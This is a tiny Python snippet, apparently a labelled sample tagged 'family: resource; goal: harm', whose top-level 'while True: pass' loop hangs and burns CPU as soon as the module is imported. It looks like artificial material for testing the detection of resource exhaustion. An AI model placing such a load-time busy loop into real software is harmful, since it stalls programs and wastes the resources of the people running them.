# family: resource; goal: harm
# Endless already while the module is loaded.
while True:
    pass
